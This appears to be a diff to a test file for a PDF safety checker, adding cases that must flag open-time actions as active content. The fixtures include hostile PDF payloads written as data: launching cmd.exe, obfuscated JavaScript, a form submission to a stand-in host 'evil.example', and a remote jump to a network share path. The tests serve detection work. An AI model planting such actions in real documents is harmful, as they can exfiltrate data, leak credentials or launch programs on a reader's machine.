@@ -18,6 +18,9 @@ describe("the letter check reads the PDF's structure", () => {
     expect(inspectPdf(minimalPdf("/OpenAction << /S /Launch /F (cmd.exe) >> "))).toBe("active-content");
     expect(inspectPdf(minimalPdf("/OpenAction << /S /J#61vaScript >> "))).toBe("active-content");
     expect(inspectPdf(minimalPdf("/AcroForm << /Fields [] /XFA 9 0 R >> "))).toBe("active-content");
+    for (const action of ["/S /SubmitForm /F (https://evil.example/)", "/S /ImportData /F (data.fdf)", "/S /GoToR /F (\\\\host\\share\\a.pdf) /D [0 /Fit]"])
+      expect(inspectPdf(minimalPdf(`/OpenAction << ${action} >> `)), action).toBe("active-content");
+    expect(inspectPdf(minimalPdf("/OpenAction << /S /URI /URI (https://www.itu.int/) >> "))).toBe("ok");
   });
   it("reads the objects compressed in object streams (PDF 1.5), where their names are not in the file's bytes", () => {
     const script = "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> << /Type /Pages /Kids [] /Count 0 >> << /S /JavaScript /JS (app.alert(1)) >>";
